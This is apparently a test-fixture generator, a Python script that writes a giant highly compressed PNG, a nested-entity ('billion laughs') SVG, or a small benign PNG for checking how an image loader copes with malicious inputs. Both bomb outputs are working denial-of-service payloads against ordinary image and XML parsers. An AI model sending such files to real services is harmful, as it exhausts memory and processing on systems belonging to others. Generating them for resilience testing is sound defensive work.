"""Makes a picture: `bomb.py KIND FILE`.

KIND is `png` (60,000 pixels each way in few bytes), `svg` (nested entities) or `good` (a small
PNG).
"""

import struct
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

SIDE = 60_000


def main() -> None:
    """Write it."""
    kind, file = sys.argv[1:]
    made = {"png": lambda: _png(SIDE), "good": lambda: _png(8), "svg": _svg}[kind]()
    Path(file).write_bytes(made)


def _png(side: int) -> bytes:
    packer = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(name, body) for name, body in ((b"IHDR", head), (b"IDAT", data), (b"IEND", b"")))


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _svg() -> bytes:
    def entities() -> Iterator[str]:
        yield '<!ENTITY a0 "laugh">'
        for level in range(1, 10):
            yield f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">'
    return (f'<?xml version="1.0"?><!DOCTYPE svg [{"".join(entities())}]>'
            '<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>').encode()


if __name__ == "__main__":
    main()
